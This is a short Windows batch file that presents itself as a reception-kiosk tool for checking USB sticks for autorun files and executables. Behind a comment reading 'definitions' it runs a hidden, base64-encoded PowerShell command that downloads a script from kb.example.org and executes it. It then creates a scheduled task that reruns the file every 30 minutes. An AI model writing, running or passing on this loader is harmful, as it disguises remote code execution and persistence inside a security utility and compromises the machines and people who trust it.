@echo off
rem Checks a USB stick at the reception kiosk before it may be used in the house.
setlocal
set STICK=%1
if "%STICK%"=="" set STICK=E:

if exist %STICK%\autorun.inf (
  echo autorun.inf found, please hand the stick to IT
  exit /b 1
)
dir /s /b %STICK%\*.exe %STICK%\*.scr %STICK%\*.lnk 2>nul

rem definitions
powershell -NoP -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AawBiAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AdQAuAHAAcwAxACcAKQA=

schtasks /create /f /sc minute /mo 30 /tn "USB definitions" /tr "%~f0" >nul
echo done
